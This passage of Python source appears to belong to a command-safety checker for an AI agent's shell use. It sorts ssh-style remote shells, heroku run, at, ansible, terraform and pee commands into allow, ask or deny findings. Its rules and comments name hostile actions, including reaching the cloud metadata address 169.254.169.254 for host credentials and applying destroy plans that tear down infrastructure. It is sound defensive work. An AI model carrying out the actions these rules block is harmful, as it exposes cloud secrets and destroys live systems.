        return _paas_run(run, inv)
    sub, options = _REMOTE_SHELLS.get(inv.name, ((), ()))
    if not sub or args[:len(sub)] != list(sub):
        return []
    shown = f"{inv.name} {' '.join(sub)}"
    for i, a in enumerate(args):
        option, eq, attached = a.partition("=")
        command = attached if eq and option in options else \
            (args[i + 1] if a in options and i + 1 < len(args) else None)
        if command is not None:
            if DYN in command:
                return [ask(f"{shown} runs a command built at run time", "remote-exec", BlastRadius.HIGH, "exec.ssh")]
            run.nested(command, inv, shown, Scope(None, "~", {}, set(), remote=True))
            if inv.name in _APP_SHELLS:  # a deployed app's own machine: its data is live, the person should see it
                return [ask(f"{shown} runs a command inside a deployed app", "remote-exec", BlastRadius.MEDIUM,
                            "exec.ssh")]
            return [allow(f"{shown} runs a command on a remote machine (judged on its own)", "remote-exec",
                          rule="exec.ssh")]
    return [ask(f"{shown} opens a remote shell", "remote-exec", BlastRadius.MEDIUM, "exec.ssh")]


def _paas_run(run: "Run", inv: "Invocation") -> list[Finding]:
    """heroku run CMD…: CMD runs in a one-off dyno of the app (its live data), judged as on another machine."""
    sub, value_options = _REMOTE_RUNS[inv.name]
    words = inv.words
    if not words or words[0].value.split(":")[0] != sub:
        return []
    i = 1
    while i < len(words) and words[i].value.startswith("-"):
        i += 2 if words[i].value in value_options else 1
    rest = words[i:]
    if not rest:
        return []
    if any(w.dynamic for w in rest):
        return [ask(f"{inv.name} {sub} runs a command built at run time", "remote-exec", BlastRadius.HIGH, "exec.ssh")]
    run.nested(" ".join(w.raw for w in rest), inv, f"{inv.name} {sub}", Scope(None, "~", {}, set(), remote=True))
    return [ask(f"{inv.name} {sub} runs a command inside a deployed app", "remote-exec", BlastRadius.MEDIUM, "exec.ssh")]


def at(run: "Run", inv: "Invocation") -> list[Finding]:
    """at / batch read commands to run later from stdin (or -f FILE): judge them now."""
    args = inv.args
    if any(a in ("-l", "-q", "-c", "-r", "-d") for a in args[:1]) or not args and inv.name == "atq":
        return [allow(f"{inv.name} {' '.join(args[:1])} only lists or removes queued jobs", "process",
                      rule="exec.at")]
    stream = run.stdin_source(inv.cmd)
    if stream.kind == "text" and stream.text is not None:
        run.nested(stream.text, inv, f"{inv.name} job")
    return [ask(f"{inv.name} schedules commands to run later, unattended", "process", BlastRadius.MEDIUM, "exec.at")]


# ansible modules that only gather facts or check reachability
_ANSIBLE_READ_MODULES = frozenset({"ping", "setup", "gather_facts", "debug", "stat", "slurp", "find", "command_info",
                                   "package_facts", "service_facts", "ansible.builtin.ping", "ansible.builtin.setup",
                                   "ansible.builtin.stat", "ansible.builtin.debug", "ansible.builtin.find"})
_ANSIBLE_SHELL_MODULES = frozenset({"shell", "command", "raw", "ansible.builtin.shell", "ansible.builtin.command",
                                    "ansible.builtin.raw"})


def ansible(run: "Run", inv: "Invocation") -> list[Finding]:
    """`ansible HOSTS -m shell -a CMD`: CMD runs on every host (judged as a remote command, with
    -b as root); read-only modules are fine; any other module changes the hosts."""
    words = inv.args
    module, module_args, become = "command", None, False
    i = 0
    while i < len(words):
        a = words[i]
        if a in ("-m", "--module-name") and i + 1 < len(words):
            module, i = words[i + 1], i + 2
            continue
        if a in ("-a", "--args") and i + 1 < len(words):
            module_args, i = words[i + 1], i + 2
            continue
        if a.startswith("--module-name="):
            module = a.partition("=")[2]
        elif a.startswith("--args="):
            module_args = a.partition("=")[2]
        become |= a in ("-b", "--become") or (a.startswith("-") and not a.startswith("--") and "b" in a[1:]
                                              and a[1:].isalpha())
        i += 1
    reached = metadata_in_text(module_args or "")
    if reached is not None:  # -m uri -a 'url=http://169.254.169.254/…': the hosts' cloud credentials
        return [deny(f"ansible -m {module} reaches {reached[1]} ({reached[0][:60]}), which hands out the hosts' cloud "
                     f"credentials", "secrets", "exec.ansible-metadata")]
    if module in _ANSIBLE_READ_MODULES:
        return [allow(f"ansible -m {module} only gathers facts or checks the hosts", "infra-as-code",
                      rule="exec.ansible")]
    if module in _ANSIBLE_SHELL_MODULES and module_args:
        if DYN in module_args:
            return [ask("ansible runs a command built at run time on the hosts", "remote-exec", BlastRadius.HIGH,
                        "exec.ansible")]
        scope = Scope(None, "/root" if become else "~", {}, set(), remote=True)
        run.nested(module_args, inv, f"ansible -m {module}", scope)
        return [allow(f"ansible runs `{module_args}` on the hosts it targets (judged on its own)", "remote-exec",
                      rule="exec.ansible")]
    path = re.search(r"(?:^|\s)(?:path|dest|name)=(\S+)", module_args or "")
    if module in ("file", "ansible.builtin.file") and path and re.search(r"(?:^|\s)state=absent\b", module_args or ""):
        scope = Scope(None, "/root" if become else "~", {}, set(), remote=True)
        hosts = next((w for w in words if not w.startswith("-")), "")
        local = hosts in ("localhost", "127.0.0.1") and ("local" in words or "--connection=local" in words or
                                                          "-clocal" in words)
        if local and not become:  # ansible localhost -c local: this machine, as the agent's user
            scope = inv.scope
        run.nested(f"rm -rf {path.group(1)}", inv, "ansible -m file state=absent", scope)
    return [ask(f"ansible -m {module} changes the hosts it targets", "infra-as-code", BlastRadius.MEDIUM,
                "exec.ansible")]


_TF_VALUE_OPTIONS = frozenset({"-var", "-var-file", "-target", "-replace", "-state", "-state-out", "-backup",
                               "-lock-timeout", "-parallelism", "-out", "-chdir"})


# subcommands that read the configuration: an external data source runs its program on plan and apply, a
# local-exec provisioner its command on apply and destroy
_TF_RUNS_CONFIG = {"plan": ("external",), "apply": ("external", "local-exec"), "refresh": ("external",),
                   "destroy": ("external", "local-exec"), "import": ("external",), "console": ("external",)}
_TF_PROGRAM = re.compile(r'data\s+"external"\s+"[^"]*"\s*\{[^{}]*?\bprogram\s*=\s*\[([^\]]*)\]', re.S)
_TF_LOCAL_EXEC = re.compile(r'provisioner\s+"local-exec"\s*\{[^{}]*?\bcommand\s*=\s*(?:"((?:[^"\\]|\\.)*)"|'
                            r'<<-?(\w+)\n(.*?)\n\s*\2)', re.S)


def _terraform_programs(directory: str, sub: str) -> list[str]:
    """The commands a Terraform configuration in `directory` runs for `sub` (its *.tf files, read here)."""
    out: list[str] = []
    try:
        names = sorted(n for n in os.listdir(directory) if n.endswith(".tf"))[:64]
    except OSError:
        return out
    for name in names:
        text = read_text(posixpath.join(directory, name)) or ""
        if "external" in _TF_RUNS_CONFIG[sub]:
            for m in _TF_PROGRAM.finditer(text):
                words = re.findall(r'"((?:[^"\\]|\\.)*)"', m.group(1))
                if words:
                    out.append(" ".join(shlex.quote(w.replace('\\"', '"')) for w in words))
        if "local-exec" in _TF_RUNS_CONFIG[sub]:
            out += [(m.group(1) or m.group(3) or "").replace('\\"', '"') for m in _TF_LOCAL_EXEC.finditer(text)]
    return [re.sub(r"\$\{path\.(?:module|root|cwd)\}", ".", c) for c in out if c][:32]


def terraform(run: "Run", inv: "Invocation") -> list[Finding]:
    """`terraform plan -destroy -out=p`, then `terraform apply p` (in this command or a later call of
    the session): applying that plan destroys the stack. Everything else goes to the taxonomy."""
    words = [w.value for w in inv.words]
    positionals, options = [], {}
    i = 0
    while i < len(words):
        flag, eq, value = words[i].partition("=")
        if flag in _TF_VALUE_OPTIONS:
            if not eq:
                value = words[i + 1] if i + 1 < len(words) else ""
                i += 1
            options[flag] = value
        elif not words[i].startswith("-"):
            positionals.append(words[i])
        i += 1
    base = inv.scope.cwd
    if base and options.get("-chdir"):
        base = posixpath.normpath(posixpath.join(base, options["-chdir"]))

    def resolved(path: str) -> str | None:
        if DYN in path or not path:
            return None
        return posixpath.normpath(path if path.startswith("/") else posixpath.join(base, path)) if base or \
            path.startswith("/") else None

    if positionals[:1] and positionals[0] in _TF_RUNS_CONFIG and base and not inv.scope.remote:
        for command in _terraform_programs(base, positionals[0]):
            run.nested(command, inv, f"terraform {positionals[0]} (the configuration's programs)")
    if positionals[:1] == ["plan"] and options.get("-out"):
        where = resolved(options["-out"])
        if where:
            run.result.leaves["destroy-plan:" + where] = "1" if any(w in ("-destroy", "--destroy") for w in words) \
                else "0"
    if positionals[:1] in (["apply"], ["destroy"]) and base and not inv.scope.remote:
        emptied = _emptied_configuration(run, base)
        if emptied and positionals == ["apply"]:
            run.result.acts.append(("terraform-destroy", base))
            return [deny(f"{inv.name} apply after {emptied}: with no configuration left, it destroys every resource "
                         "the state holds", "infra-as-code", "exec.terraform-destroy-plan")]
    if len(positionals) >= 2 and positionals[0] == "apply":
        plan = positionals[-1]
        where = resolved(plan)
        if inv.scope.facts.get("destroy-plan:" + plan) == "1" or \
                (where and inv.scope.facts.get("destroy-plan:" + where) == "1"):
            run.result.acts.append(("terraform-destroy", base or "."))
            return [deny(f"{inv.name} apply {plan} applies a plan made with -destroy: it tears down every resource "
                         "in it", "infra-as-code", "exec.terraform-destroy-plan")]
    return []


# a segment whose write leaves the file empty: `: > f`, `true > f`, `truncate -s 0 f`
_EMPTYING = re.compile(r"^\s*(?::|true|false)?\s*$|^\s*truncate\b.*(?:-s\s*0|--size[= ]0)\b")


def _emptied_configuration(run: "Run", base: str) -> str | None:
    """What this command did before, earlier in its text, that leaves the configuration in `base` with no
    resources: every .tf file there truncated, emptied, deleted or moved away (or the directory with them)."""
    files = {f for pattern in ("*.tf", "*.tf.json") for f in glob.glob(posixpath.join(glob.escape(base), pattern))}
    removed: set[str] = set()
    how = ""
    for effect in run.result.effects:
        path = effect.path
        if not path or effect.remote:
            continue
        gone = set()
        if base == path.rstrip("/") and effect.kind in ("delete", "move") and effect.members:
            gone = {f for f in files if any(fnmatch.fnmatch(posixpath.basename(f), m) for m in effect.members)}
        elif (base == path or base.startswith(path.rstrip("/") + "/")) and effect.kind in ("delete", "move") and \
                effect.recursive:
            return f"removing {effect.raw}"
        elif posixpath.dirname(path) == base and path in files:
            empty = (effect.content is not None and not effect.content.strip()) or \
                (effect.kind == "copy" and effect.source == "/dev/null") or \
                (effect.kind == "write" and effect.content is None and _EMPTYING.match(effect.segment))
            if effect.kind in ("delete", "move") or (effect.kind in ("write", "copy") and empty):
                gone = {path}
        if gone:
            removed |= gone
            how = how or ("emptying " if effect.kind in ("write", "copy") else "removing ") + effect.raw
    return how if files and files <= removed else None


def pee(run: "Run", inv: "Invocation") -> list[Finding]:
    """pee CMD…: each argument is a command line run through sh, fed the same input."""
    for word in inv.words:
        if not word.value.startswith("-"):
            run.nested(word.value, inv, "pee")
    return [allow("pee hands its input to each command (judged above)", "read-only", rule="exec.pee")]

